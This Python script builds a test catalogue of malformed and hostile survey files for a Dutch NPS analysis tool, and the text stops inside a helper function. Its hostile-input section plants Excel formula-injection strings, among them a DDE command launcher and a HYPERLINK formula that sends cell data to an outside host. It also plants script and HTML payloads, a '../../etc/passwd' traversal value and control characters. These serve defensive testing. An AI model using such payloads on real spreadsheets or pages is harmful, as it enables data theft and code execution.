"""Write the bad-input catalogue of tests/data/bad/: small files and their expected outcome.

Every file is made here, never by hand: `python tools/make_bad_inputs.py [folder]`.
The output is deterministic (fixed zip and SPSS timestamps), so regenerating gives the
same bytes; `tests/test_bad_inputs.py` checks that and runs every case.

`expected.toml` holds one table per case: ``file``, optional ``load`` (keyword
arguments of ``load_survey``) and ``spec`` (changes to the base spec ``survey.toml``),
then either ``error`` (a ``drivers.errors`` class name) with ``match`` (fragments the
message must contain), or ``rows_read``, ``rows_used`` and ``reasons`` (reason → rows
excluded for it), optionally ``values`` (column → values of the rows used) and
``not_applicable`` (touchpoint → n.v.t. count).
"""

from __future__ import annotations

import codecs
import io
import re
import sys
import zipfile
from pathlib import Path

FOLDER = Path(__file__).resolve().parents[1] / "tests" / "data" / "bad"

SPEC_TOML = """\
# Base spec of the bad-input catalogue; cases change fields through [case.spec].
name = "bad inputs"
nps = "aanbeveling"
id = "respondent"
weight = "gewicht"
segments = ["regio"]
scale = [1, 10]

[[touchpoints]]
key = "levering"
nl = "Levering"
en = "Delivery"

[[touchpoints]]
key = "facturatie"
nl = "Facturatie"
en = "Invoicing"

[[touchpoints]]
key = "service"
nl = "Service"
en = "Service"
"""

COLUMNS = ["respondent", "aanbeveling", "levering", "facturatie", "service", "regio", "gewicht"]
# respondent, nps, three grades, region, weight (decimal comma, as Dutch exports write)
GOOD = [
    ["r01", "9", "8", "7", "8", "Noord", "1,0"],
    ["r02", "7", "7", "6", "n.v.t.", "Zuid", "0,8"],
    ["r03", "3", "5", "4", "6", "Oost", "1,2"],
    ["r04", "10", "9", "8", "9", "West", "1,0"],
    ["r05", "6", "6", "7", "5", "Noord", "1,1"],
    ["r06", "8", "8", "8", "7", "Zuid", "0,9"],
]

CASES: list[dict] = []
NAN = float("nan")


def normalised(weights: list[float]) -> list[float]:
    """Weights divided by their mean, as load_survey returns them."""
    mean = sum(weights) / len(weights)
    return [w / mean for w in weights]


#: What each case attacks: the points of the issue "Deliverables that are safe to send"
#: (1-8) and the file errors before them. docs/attack_catalogue.md lists the cases by these.
CATEGORIES = {
    "file": "Unreadable or malformed files",
    "values": "Cell values read right",
    "privacy": "1 No respondent values in deliverables",
    "suppression": "2 Small groups stay suppressed",
    "injection": "3 Excel-safe text",
    "markup": "4 HTML- and mathtext-safe text",
    "paths": "5 Names that can't escape",
    "selection": "6 No silent data selection",
    "validation": "7 Validate before work starts",
    "weak": "8 One weak touchpoint doesn't sink the report",
}


def case(name: str, file: str, *, category: str, **expected) -> None:
    if category not in CATEGORIES:
        raise ValueError(f"case {name!r}: category {category!r} is not one of {list(CATEGORIES)}")
    CASES.append({"name": name, "file": file, "category": category, **expected})


def csv_quoted(rows: list[list[str]], header: list[str] | None = None) -> str:
    """Semicolon CSV as Excel writes it: fields with quotes or separators are quoted."""
    import csv

    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\n")
    writer.writerow(header or COLUMNS)
    writer.writerows(rows)
    return buffer.getvalue()


def csv_text(rows: list[list[str]], sep: str = ";", header: list[str] | None = None) -> str:
    lines = [sep.join(header or COLUMNS)] + [sep.join(r) for r in rows]
    return "\n".join(lines) + "\n"


def with_column(index: int, values: list[str], rows: list[list[str]] | None = None) -> list:
    rows = [list(r) for r in (rows or GOOD)]
    for row, value in zip(rows, values, strict=True):
        row[index] = value
    return rows


# -- writers ----------------------------------------------------------------------------
def write_cases(folder: Path) -> list[Path]:
    """Write every file of the catalogue into ``folder``; return the paths written."""
    folder.mkdir(parents=True, exist_ok=True)
    CASES.clear()
    files: dict[str, bytes] = {"survey.toml": SPEC_TOML.encode()}

    def text(name: str, content: str, encoding: str = "utf-8") -> None:
        files[name] = content.encode(encoding)

    # Files that cannot be loaded: a DriversError naming file, what was found and the fix.
    files["empty.csv"] = b""
    case(
        "empty file",
        "empty.csv",
        category="file",
        error="EmptyFileError",
        match=["empty.csv", "0 bytes"],
    )
    text("blank_lines.csv", "\n\n  \n")
    case(
        "blank lines only",
        "blank_lines.csv",
        category="file",
        error="EmptyFileError",
        match=["only blank"],
    )
    text("header_only.csv", csv_text([]))
    case(
        "header only",
        "header_only.csv",
        category="file",
        error="EmptyFileError",
        match=["header_only.csv", "7 columns", "no data rows", "Export the survey again"],
    )
    files["binary_garbage.csv"] = bytes((i * 37 + 11) % 256 for i in range(4000))
    case(
        "binary garbage named .csv",
        "binary_garbage.csv",
        category="file",
        error="FileFormatError",
        match=["binary_garbage.csv", "not a text file", "real extension"],
    )
    files["nul_bytes.csv"] = csv_text(GOOD).encode() + b"r07;9;8;7\x00;8;Noord;1,0\n"
    case(
        "NUL byte inside a text file",
        "nul_bytes.csv",
        category="file",
        error="FileFormatError",
        match=["nul_bytes.csv", "not a text file", "Export the survey again as CSV"],
    )
    text("ragged_rows.csv", csv_text(GOOD[:2] + [GOOD[2] + ["extra", "velden"]] + GOOD[3:]))
    case(
        "ragged rows",
        "ragged_rows.csv",
        category="file",
        error="FileFormatError",
        match=["ragged_rows.csv", "header has 7 fields", "row 4 has 9", "quote text fields"],
    )
    text("duplicated_columns.csv", csv_text(GOOD, header=[*COLUMNS[:-1], "levering"]))
    case(
        "duplicated column names",
        "duplicated_columns.csv",
        category="file",
        error="ColumnNotFoundError",
        match=["duplicated_columns.csv", "'levering' in columns 3, 7", "rename the copies"],
    )
    text(
        "nps_missing.csv", csv_text([r[:1] + r[2:] for r in GOOD], header=COLUMNS[:1] + COLUMNS[2:])
    )
    case(
        "NPS column missing",
        "nps_missing.csv",
        category="file",
        error="ColumnNotFoundError",
        match=["nps_missing.csv", "'aanbeveling'", "not in the file", "Fix the column name"],
    )
    text("not_encoded.csv", csv_text(GOOD[:2]) + "r09;9;8;7;8;Noord\x81;1,0\n", "latin-1")
    case(
        "bytes neither UTF-8 nor cp1252",
        "not_encoded.csv",
        category="file",
        error="EncodingError",
        match=["not_encoded.csv", "0x81", "CSV UTF-8"],
    )
    files["old_excel.xls"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    case(
        "old .xls workbook",
        "old_excel.xls",
        category="file",
        error="FileFormatError",
        match=["old_excel.xls", "unknown file type '.xls'", "as .xlsx"],
    )
    files["damaged.xlsx"] = b"PK\x03\x04" + bytes(range(200))
    case(
        "damaged .xlsx",
        "damaged.xlsx",
        category="file",
        error="FileFormatError",
        match=["damaged.xlsx", "cannot be opened as an Excel workbook", "Save it again"],
    )
    files["damaged.sav"] = b"$FL2" + bytes(range(120))
    case(
        "damaged .sav",
        "damaged.sav",
        category="file",
        error="FileFormatError",
        match=["damaged.sav", "cannot be read as an SPSS .sav file", "export it as CSV"],
    )
    files["excel_two_header_rows.xlsx"] = _two_header_workbook()
    case(
        "Excel with merged group titles above the header (no option)",
        "excel_two_header_rows.xlsx",
        category="file",
        error="ColumnNotFoundError",
        match=["excel_two_header_rows.xlsx", "'aanbeveling'", "row 2", "header_row=2"],
    )
    text("all_rows_bad.csv", csv_text(with_column(1, [""] * 6)))
    case(
        "no usable row (every NPS empty)",
        "all_rows_bad.csv",
        category="file",
        error="DataError",
        match=["all_rows_bad.csv", "none of the 6 rows", "NPS answer missing", "aanbeveling"],
    )
    text("strict_bad_grade.csv", csv_text(with_column(2, ["8", "0", "5", "9", "6", "8"])))
    case(
        "strict mode with a grade 0",
        "strict_bad_grade.csv",
        category="file",
        load={"strict": True},
        error="InvalidValueError",
        match=["strict_bad_grade.csv", "column 'levering', row 3", "found '0'", "Fix:"],
    )

    # Files that load, with exact row accounting.
    case(
        "Excel with merged group titles, header_row=2",
        "excel_two_header_rows.xlsx",
        category="values",
        load={"header_row": 2},
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"respondent": [r[0] for r in GOOD]},
    )
    labels = ["9 - zeer waarschijnlijk", "7", "3", "10 - zeer waarschijnlijk", "misschien", "8"]
    text("nps_text_labels.csv", csv_text(with_column(1, labels)))
    case(
        "NPS as text labels mapped by value_labels",
        "nps_text_labels.csv",
        category="values",
        spec={
            "value_labels": {
                "aanbeveling": {
                    "9 - zeer waarschijnlijk": 9,
                    "10 - zeer waarschijnlijk": 10,
                    "0 - zeer onwaarschijnlijk": 0,
                }
            }
        },
        rows_read=6,
        rows_used=5,
        reasons={"NPS answer is text, not a number": 1},
        values={"aanbeveling": [9.0, 7.0, 3.0, 10.0, 8.0]},
    )
    out_of_range = with_column(1, ["11", "-1", "7.5", "10", "0", "8"])
    text("nps_out_of_range.csv", csv_text(with_column(6, ["1"] * 6, out_of_range), sep=","))
    case(
        "NPS 11, -1 and 7.5",
        "nps_out_of_range.csv",
        category="values",
        rows_read=6,
        rows_used=3,
        reasons={"NPS answer outside 0-10 or not a whole number": 3},
        values={"aanbeveling": [10.0, 0.0, 8.0]},
    )
    text("grade_zero.csv", csv_text(with_column(3, ["7", "0", "4", "0", "7", "8"])))
    case(
        "grade 0 on a 1-10 scale (costs the cell, not the respondent)",
        "grade_zero.csv",
        category="values",
        rows_read=6,
        rows_used=6,
        reasons={},
        cells={"facturatie": {"out of scale": 2}},
        values={
            "facturatie": [7.0, NAN, 4.0, NAN, 7.0, 8.0],
            "aanbeveling": [9.0, 7.0, 3.0, 10.0, 6.0, 8.0],
        },
    )
    text("grade_all_nvt.csv", csv_text(with_column(4, ["n.v.t.", "nvt", "", "n.v.t.", "99", ""])))
    case(
        "a grade column entirely n.v.t.",
        "grade_all_nvt.csv",
        category="weak",
        rows_read=6,
        rows_used=6,
        reasons={},
        not_applicable={"service": 6, "levering": 0},
    )
    text("grade_constant.csv", csv_text(with_column(3, ["7"] * 6)))
    case(
        "a grade column constant",
        "grade_constant.csv",
        category="weak",
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"facturatie": [7.0] * 6},
    )
    mixed = with_column(3, ["7,5", "6.5", "4", "8,0", "7", "8.5"])
    text(
        "decimal_mixed.csv",
        csv_text(with_column(6, ["1,0", "0.8", "1,2", "1", "1.1", "0,9"], mixed)),
    )
    case(
        "decimal comma mixed with decimal point",
        "decimal_mixed.csv",
        category="values",
        rows_read=6,
        rows_used=6,
        reasons={},
        values={
            "facturatie": [7.5, 6.5, 4.0, 8.0, 7.0, 8.5],
            "gewicht": [1.0, 0.8, 1.2, 1.0, 1.1, 0.9],
        },
    )
    weights_nl = ["1.250,5", "2.000", "750", "1.000,25", "980,5", "1.100"]
    text("thousands_weight_nl.csv", csv_text(with_column(6, weights_nl)))
    case(
        "thousands separators in the weight (Dutch 1.250,5)",
        "thousands_weight_nl.csv",
        category="values",
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"gewicht": normalised([1250.5, 2000.0, 750.0, 1000.25, 980.5, 1100.0])},
    )
    weights_en = ['"1,250.5"', '"2,000"', "750", '"1,000.25"', "980.5", '"1,100"']
    text("thousands_weight_en.csv", csv_text(with_column(6, weights_en), sep=","))
    case(
        "thousands separators in the weight (English 1,250.5)",
        "thousands_weight_en.csv",
        category="values",
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"gewicht": normalised([1250.5, 2000.0, 750.0, 1000.25, 980.5, 1100.0])},
    )
    regions = ["Café Noord", "Zuid-België", "Oost", "Curaçao", "Noord", "Zuid"]
    text("cp1252_accents.csv", csv_text(with_column(5, regions)), "cp1252")
    case(
        "cp1252 with accents",
        "cp1252_accents.csv",
        category="file",
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"regio": regions},
    )
    # Excel's "Unicode text": UTF-16 LE with BOM, tab separated, CRLF line ends.
    body = csv_text(with_column(5, regions), sep="\t").replace("\n", "\r\n")
    files["utf16_unicode_text.txt"] = codecs.BOM_UTF16_LE + body.encode("utf-16-le")
    case(
        "UTF-16 'Unicode text' export (BOM, tabs)",
        "utf16_unicode_text.txt",
        category="file",
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"regio": regions, "gewicht": [1.0, 0.8, 1.2, 1.0, 1.1, 0.9]},
    )
    files["sav_string_numbers.sav"] = _string_sav()
    case(
        ".sav with string-typed numbers",
        "sav_string_numbers.sav",
        category="values",
        rows_read=6,
        rows_used=6,
        reasons={},
        cells={"levering": {"text": 1}},
        values={"aanbeveling": [9.0, 7.0, 3.0, 10.0, 6.0, 8.0]},
        not_applicable={"service": 1},
    )
    text("duplicate_ids.csv", csv_text(with_column(0, ["r01", "r02", "r02", "r04", "r01", "r06"])))
    case(
        "duplicate respondent ids",
        "duplicate_ids.csv",
        category="privacy",
        rows_read=6,
        rows_used=4,
        reasons={"duplicate respondent id": 2},
    )
    text("weights_zero.csv", csv_text(with_column(6, ["1", "0", "1", "0,0", "1", "1"])))
    case(
        "weights 0",
        "weights_zero.csv",
        category="selection",
        rows_read=6,
        rows_used=4,
        reasons={"weight zero or negative": 2},
    )
    text("weights_negative.csv", csv_text(with_column(6, ["1", "-1", "1", "1", "-0,5", "1"])))
    case(
        "weights negative",
        "weights_negative.csv",
        category="selection",
        rows_read=6,
        rows_used=4,
        reasons={"weight zero or negative": 2},
    )
    text("weights_missing.csv", csv_text(with_column(6, ["1", "", "1", "1", "1", "veel"])))
    case(
        "weights missing (and one text)",
        "weights_missing.csv",
        category="selection",
        rows_read=6,
        rows_used=4,
        reasons={"weight missing": 1, "weight is text, not a number": 1},
    )
    text("weights_infinite.csv", csv_text(with_column(6, ["1", "inf", "1", "1", "NaN", "1"])))
    case(
        "weights 'inf' and 'NaN'",
        "weights_infinite.csv",
        category="selection",
        rows_read=6,
        rows_used=4,
        reasons={"weight is text, not a number": 2},
    )
    text("weights_all_equal.csv", csv_text(with_column(6, ["2,5"] * 6)))
    case(
        "weights all equal (normalised to 1)",
        "weights_all_equal.csv",
        category="selection",
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"gewicht": [1.0] * 6},
    )
    waves = [[*r, w] for r, w in zip(GOOD + GOOD[:3], ["2024"] * 6 + ["2023"] * 3, strict=True)]
    for i, row in enumerate(waves):
        row[0] = f"r{i + 1:02d}"
    text("small_wave.csv", csv_text(waves, header=[*COLUMNS, "golf"]))
    case(
        "a wave with fewer respondents than drivers + 2 (3 < 5)",
        "small_wave.csv",
        category="weak",
        spec={"wave": "golf"},
        rows_read=9,
        rows_used=9,
        reasons={},
        wave_sizes={"2024": 6, "2023": 3},
    )
    tiny = ["Noord", "Noord", "Noord", "Noord", "Zeeland", "Zeeland"]
    text("segment_below_floor.csv", csv_text(with_column(5, tiny)))
    case(
        "a segment below the privacy floor (Zeeland, n=2)",
        "segment_below_floor.csv",
        category="suppression",
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"regio": tiny},
    )
    text("collinear_touchpoints.csv", csv_text(with_column(3, [r[2] for r in GOOD])))
    case(
        "two perfectly collinear touchpoints",
        "collinear_touchpoints.csv",
        category="weak",
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"facturatie": [float(r[2]) for r in GOOD]},
    )
    text("all_promoters.csv", csv_text(with_column(1, ["9", "10", "9", "10", "10", "9"])))
    case(
        "everybody a promoter",
        "all_promoters.csv",
        category="values",
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"aanbeveling": [9.0, 10.0, 9.0, 10.0, 10.0, 9.0]},
    )
    blank_mid = csv_text(GOOD[:3]) + ";;;;;;\n\n" + "\n".join(";".join(r) for r in GOOD[3:]) + "\n"
    text("blank_rows_inside.csv", blank_mid)
    case(
        "blank lines between respondents (skipped, listed in info['blank_rows'])",
        "blank_rows_inside.csv",
        category="file",
        rows_read=6,
        rows_used=6,
        reasons={},
        blank_rows=[5, 6],
    )

    _hostile_cases(text)
    _drift_cases(files, text)
    _client_cases(files)

    written = []
    for name, content in files.items():
        path = folder / name
        path.write_bytes(content)
        written.append(path)
    expected = folder / "expected.toml"
    expected.write_text(_expected_toml(CASES), encoding="utf-8")
    written.append(expected)
    return written


#: Text typed into cells that must never reach a report (see tests/test_bad_inputs.py).
PLANTED_EMAIL = "jan.jansen@klant-voorbeeld.nl"
PLANTED_PHONE = "06-12345678"


def _hostile_cases(text) -> None:
    """Personal data, formulas, markup and control characters typed into a survey file.

    Each loads with the right numbers; what it must not do in a report (leak, run,
    render) is asserted by tests/test_bad_inputs.py and the payload fuzz of
    tests/test_fuzz.py.
    """
    pii = with_column(1, ["9", PLANTED_EMAIL, "3", f"bel Piet {PLANTED_PHONE}", "6", "8"])
    text("pii_in_nps.csv", csv_text(pii))
    case(
        "an e-mail address and a phone number typed into NPS cells",
        "pii_in_nps.csv",
        category="privacy",
        rows_read=6,
        rows_used=4,
        reasons={"NPS answer is text, not a number": 2},
        values={"aanbeveling": [9.0, 3.0, 6.0, 8.0]},
        planted=[PLANTED_EMAIL, PLANTED_PHONE, "Piet"],
    )
    ids = [
        PLANTED_EMAIL,
        "piet@klant-voorbeeld.nl",
        PLANTED_EMAIL,
        "r04",
        "piet@klant-voorbeeld.nl",
    ]
    text("email_ids.csv", csv_text(with_column(0, [*ids, "r06"])))
    case(
        "e-mail addresses as respondent ids, repeated",
        "email_ids.csv",
        category="privacy",
        rows_read=6,
        rows_used=4,
        reasons={"duplicate respondent id": 2},
        planted=[PLANTED_EMAIL, "piet@klant-voorbeeld.nl"],
    )
    name = with_column(2, ["8", f"Piet de Vries {PLANTED_PHONE}", "5", "9", "6", "8"])
    text("pii_in_grade.csv", csv_text(name))
    case(
        "a name and a phone number typed into a grade cell",
        "pii_in_grade.csv",
        category="privacy",
        rows_read=6,
        rows_used=6,
        reasons={},
        cells={"levering": {"text": 1}},
        values={"levering": [8.0, NAN, 5.0, 9.0, 6.0, 8.0]},
        planted=["Piet de Vries", PLANTED_PHONE],
    )
    formulas = [
        '=HYPERLINK("http://x.nl/?"&A1,"klik")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "=1+1",
        "Noord",
    ]
    text("formula_segments.csv", csv_quoted(with_column(5, formulas)))
    case(
        "segment values that Excel would run as formulas (=, +, -, @)",
        "formula_segments.csv",
        category="injection",
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"regio": formulas},
    )
    markup = [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "$\\frac{a}{b}$",
        "$x^2$",
        "*vet* [link](http://x.nl)",
        "Noord",
    ]
    text("markup_segments.csv", csv_quoted(with_column(5, markup)))
    case(
        "segment values with HTML, a script, mathtext and Markdown",
        "markup_segments.csv",
        category="markup",
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"regio": markup},
    )
    control = [
        "Noord\x07",
        "Zuid\u202eedis",
        "Oost\x1b[31m",
        "West\u200b",
        "N" * 5000,
        "../../etc/passwd",
    ]
    text("control_segments.csv", csv_quoted(with_column(5, control)))
    case(
        "segment values with control characters, an RTL override, 5,000 characters, ../",
        "control_segments.csv",
        category="markup",
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"regio": control},
    )


def _drift_cases(files: dict[str, bytes], text) -> None:
    """Waves that drift, and data that must not be selected silently."""
    files["hidden_first_sheet.xlsx"] = _workbook(
        [("oud", "hidden", [["x"], [1]]), ("data", "visible", [COLUMNS, *_typed(GOOD)])]
    )
    case(
        "workbook with a hidden first sheet and no sheet given",
        "hidden_first_sheet.xlsx",
        category="selection",
        error="DataError",
        match=["hidden_first_sheet.xlsx", "2 sheets", "'oud' (hidden), 'data'", "sheet ="],
    )
    case(
        "workbook with a hidden first sheet, sheet named",
        "hidden_first_sheet.xlsx",
        category="selection",
        load={"sheet": "data"},
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"respondent": [r[0] for r in GOOD]},
    )
    case(
        "a file holding two waves used as one wave",
        "small_wave.csv",
        category="selection",
        spec={"wave": "golf"},
        load={"wave": "2024"},
        error="DataError",
        match=[
            "small_wave.csv",
            "'golf' holds 2 waves",
            "'2024' (6 rows)",
            "'2023' (3 rows)",
            "one file per wave",
        ],
    )
    formula = _typed(GOOD)
    formula[1][3] = "=C3-1"
    formula[4][3] = "=C6+1"
    files["formula_no_cache.xlsx"] = _workbook([("data", "visible", [COLUMNS, *formula])])
    case(
        "formula cells without a cached value",
        "formula_no_cache.xlsx",
        category="selection",
        error="FileFormatError",
        match=["formula_no_cache.xlsx", "2 formula cell(s)", "D3, D6", "open it in Excel and save"],
    )
    five = [
        [r[0], r[1], g1, g2, g3, r[5], r[6]]
        for r, (g1, g2, g3) in zip(
            GOOD,
            [
                ("4", "4", "5"),
                ("3", "3", "n.v.t."),
                ("2", "1", "3"),
                ("5", "4", "5"),
                ("3", "4", "2"),
                ("4", "4", "4"),
            ],
            strict=True,
        )
    ]
    text("grades_1_to_5.csv", csv_text(five))
    case(
        "grades 1-5 in a 1-10 spec: a warning with the fix",
        "grades_1_to_5.csv",
        category="selection",
        rows_read=6,
        rows_used=6,
        reasons={},
        warns=["'levering', 'facturatie', 'service'", "within 1-5", "scale = [1, 5]"],
        values={"levering": [4.0, 3.0, 2.0, 5.0, 3.0, 4.0]},
    )
    case(
        "grades 1-5 with the wave's scale = [1, 5]: rescaled to 1-10",
        "grades_1_to_5.csv",
        category="selection",
        load={"scale": [1, 5]},
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"levering": [7.75, 5.5, 3.25, 10.0, 5.5, 7.75]},
        rescaled=[1.0, 5.0, 1.0, 10.0],
        not_applicable={"service": 1},
    )
    files["sav_labelled_grades.sav"] = _labelled_sav(five)
    case(
        ".sav with labelled 1-5 grades: read as their codes, labels kept for segments",
        "sav_labelled_grades.sav",
        category="selection",
        spec={"scale": [1, 5]},
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"levering": [4.0, 3.0, 2.0, 5.0, 3.0, 4.0], "regio": [r[5] for r in GOOD]},
        not_applicable={"service": 1},
    )
    text("sep_line.csv", "sep=;\n" + csv_text(GOOD))
    case(
        "Excel's sep=; first line",
        "sep_line.csv",
        category="selection",
        rows_read=6,
        rows_used=6,
        reasons={},
        first_row=3,
        values={"respondent": [r[0] for r in GOOD], "gewicht": [1.0, 0.8, 1.2, 1.0, 1.1, 0.9]},
    )
    text("weights_huge.csv", csv_text(with_column(6, ["1", "1e308", "1", "1", "1", "1"])))
    case(
        "a weight of 1e308",
        "weights_huge.csv",
        category="selection",
        error="DataError",
        match=[
            "weights_huge.csv",
            "'gewicht'",
            "range from 1 to 1e+308",
            "1 very large",
            "drop weight from the spec",
        ],
    )
    text("weights_tiny.csv", csv_text(with_column(6, ["1", "1e-320", "1", "1", "1", "1"])))
    case(
        "a weight of 1e-320",
        "weights_tiny.csv",
        category="selection",
        error="DataError",
        match=["weights_tiny.csv", "'gewicht'", "1 very small", "Check the weight column"],
    )
    text("weights_all_zero.csv", csv_text(with_column(6, ["0"] * 6)))
    case(
        "every weight zero",
        "weights_all_zero.csv",
        category="selection",
        error="DataError",
        match=[
            "weights_all_zero.csv",
            "every weight in 'gewicht' is zero",
            "(6 rows)",
            "analyse unweighted",
        ],
    )
    dont_know = with_column(2, ["8", "weet niet meer", "5", "Weet niet meer", "6", "8"])
    dont_know = with_column(3, ["7", "6", "4", "8", "weet niet meer", "8"], dont_know)
    text("unknown_dont_know.csv", csv_text(dont_know), "cp1252")
    case(
        "an unknown don't-know code costs cells only, with the na_codes line",
        "unknown_dont_know.csv",
        category="values",
        rows_read=6,
        rows_used=6,
        reasons={},
        cells={"levering": {"text": 2}, "facturatie": {"text": 1}},
        warns=["3 grade cells hold text", 'na_codes = ["weet niet meer"]'],
        na_code_hint='na_codes = ["weet niet meer"]',
        values={"aanbeveling": [9.0, 7.0, 3.0, 10.0, 6.0, 8.0]},
    )
    case(
        "the don't-know code added to the wave's na_codes",
        "unknown_dont_know.csv",
        category="values",
        load={"na_codes": ["weet niet meer"]},
        rows_read=6,
        rows_used=6,
        reasons={},
        cells={},
        not_applicable={"levering": 2, "facturatie": 1, "service": 1},
    )
    text_date = with_column(2, ["8", "acht", "5", "12-3-2024", "6", "2024-03-12"])
    text("text_date_in_grade.csv", csv_text(text_date))
    case(
        "text and dates in grade cells",
        "text_date_in_grade.csv",
        category="values",
        rows_read=6,
        rows_used=6,
        reasons={},
        cells={"levering": {"text": 1, "date": 2}},
        values={"levering": [8.0, NAN, 5.0, NAN, 6.0, NAN]},
    )
    import datetime

    excel_dates = _typed(GOOD)
    excel_dates[2][2] = datetime.datetime(2024, 8, 7)  # "7-8" typed in Dutch Excel
    files["date_in_grade.xlsx"] = _workbook([("data", "visible", [COLUMNS, *excel_dates])])
    case(
        "an Excel date in a grade cell",
        "date_in_grade.xlsx",
        category="values",
        rows_read=6,
        rows_used=6,
        reasons={},
        cells={"levering": {"date": 1}},
    )
    absent = [[*r[:4], *r[5:]] for r in GOOD]
    text("touchpoint_absent.csv", csv_text(absent, header=[*COLUMNS[:4], *COLUMNS[5:]]))
    case(
        "a touchpoint absent from this wave's file",
        "touchpoint_absent.csv",
        category="selection",
        rows_read=6,
        rows_used=6,
        reasons={},
        absent=["service"],
        warns=["'service' not in the file", "rename ="],
        values={"service": [NAN] * 6},
        not_applicable={"levering": 0},
    )
    short = ["RespNr", "Q1", "Q5_1", "Q5_2", "Q5_3", "Q9", "W"]
    text("renamed_columns.csv", csv_text(GOOD, header=short))
    case(
        "short column names mapped by the wave's rename",
        "renamed_columns.csv",
        category="selection",
        load={
            "rename": {
                "RespNr": "respondent",
                "Q1": "aanbeveling",
                "Q5_1": "levering",
                "Q5_2": "facturatie",
                "Q5_3": "service",
                "Q9": "regio",
                "W": "gewicht",
            }
        },
        rows_read=6,
        rows_used=6,
        reasons={},
        values={"levering": [8.0, 7.0, 5.0, 9.0, 6.0, 8.0]},
    )
    case(
        "rename names a column the file lacks",
        "renamed_columns.csv",
        category="selection",
        load={"rename": {"Q01": "aanbeveling"}},
        error="ColumnNotFoundError",
        match=["renamed_columns.csv", "'Q01' (did you mean 'Q1'?)", "left-hand side of rename"],
    )


CLIENT_BASE = """\
name = {name}
spec = "survey.toml"
{top}
[[waves]]
name = {wave_name}
file = "grade_zero.csv"
{wave}
[options]
{options}
"""


def _client_cases(files: dict[str, bytes]) -> None:
    """client.toml files: every key checked when the config loads."""

    def client(file, *, name='"acme"', wave_name='"2024"', top="", wave="", options="", **expected):
        body = CLIENT_BASE.format(
            name=name, wave_name=wave_name, top=top, wave=wave, options=options
        )
        files[file] = body.encode("utf-8")
        case(expected.pop("title"), file, config=True, **expected)

    client(
        "client_unknown_wave_key.toml",
        category="validation",
        wave='shet = "data"\n',
        title="unknown key in [[waves]]",
        error="SpecError",
        match=["client_unknown_wave_key.toml", "[[waves]] 1", "'shet' (did you mean 'sheet'?)"],
    )
    client(
        "client_unknown_top_key.toml",
        category="validation",
        top='sectr = "groothandel"\n',
        title="unknown top-level key in client.toml",
        error="SpecError",
        match=["client_unknown_top_key.toml", "'sectr' (did you mean 'sector'?)"],
    )
    client(
        "client_unknown_option.toml",
        category="validation",
        options="privacy_flor = 5\n",
        title="unknown key in [options]",
        error="SpecError",
        match=["[options]", "'privacy_flor' (did you mean 'privacy_floor'?)"],
    )
    client(
        "client_privacy_floor_1.toml",
        category="suppression",
        options="privacy_floor = 1\n",
        title="privacy_floor = 1",
        error="SpecError",
        match=["client_privacy_floor_1.toml", "privacy_floor must be a whole number >= 3", "Got 1"],
    )
    client(
        "client_min_n_text.toml",
        category="validation",
        options='min_n = "abc"\n',
        title='min_n = "abc"',
        error="SpecError",
        match=["client_min_n_text.toml", "min_n must be a whole number >= 1", "Got 'abc'"],
    )
    client(
        "client_bad_brand.toml",
        category="validation",
        top='brand = "blue"\n',
        title="brand not #RRGGBB",
        error="SpecError",
        match=["client_bad_brand.toml", "brand must be a colour written #RRGGBB", "'blue'"],
    )
    client(
        "client_bad_method.toml",
        category="validation",
        options='methods = ["shapely"]\n',
        title="an unknown method",
        error="SpecError",
        match=["methods must be one of", "Did you mean 'shapley'?"],
    )
    client(
        "client_name_dotdot.toml",
        category="paths",
        name='"../../x"',
        title='name = "../../x" becomes a safe slug',
        slug="x",
        display="../../x",
    )
    client(
        "client_name_quotes.toml",
        category="paths",
        name='"Bakkerij \\"De Zon\\" B.V."',
        wave='rename = { "Regio" = "regio" }\nna_codes = ["weet niet meer", 98]\n',
        title="name with quotes reads back; wave mapping keys",
        slug="Bakkerij_De_Zon_B.V.",
        display='Bakkerij "De Zon" B.V.',
        wave_na_codes=["weet niet meer", "98"],
    )
    client(
        "client_privacy_floor_0.toml",
        category="suppression",
        options="privacy_floor = 0\n",
        title="privacy_floor = 0",
        error="SpecError",
        match=["client_privacy_floor_0.toml", "privacy_floor must be a whole number >= 3", "Got 0"],
    )
    client(
        "client_name_absolute.toml",
        category="paths",
        name='"/etc/x"',
        wave_name='"../../etc"',
        title='name = "/etc/x" and wave "../../etc" become safe slugs',
        slug="etc_x",
        display="/etc/x",
        wave_slugs=["etc"],
    )
    files["survey_unknown_key.toml"] = (
        SPEC_TOML + '\n[[touchpoints]]\nkey = "web"\nphse = "online"\n'
    ).encode()
    case(
        "unknown key in the spec's [[touchpoints]]",
        "survey_unknown_key.toml",
        category="validation",
        config=True,
        error="SpecError",
        match=["survey_unknown_key.toml", "[[touchpoints]] 4", "'phse' (did you mean 'phase'?)"],
    )


def _typed(rows: list[list[str]]) -> list[list[object]]:
    return [[r[0], *(_number(v) for v in r[1:5]), r[5], _number(r[6])] for r in rows]


def _workbook(sheets: list[tuple[str, str, list[list[object]]]]) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, state, rows in sheets:
        sheet = book.create_sheet(title)
        sheet.sheet_state = state
        for row in rows:
            sheet.append(row)
    visible = [i for i, (_, state, _) in enumerate(sheets) if state == "visible"]
    book.active = visible[0]
    buffer = io.BytesIO()
    book.save(buffer)
    return _fixed_zip(buffer.getvalue())


def _labelled_sav(rows: list[list[str]]) -> bytes:
    import tempfile

    import pandas as pd
    import pyreadstat

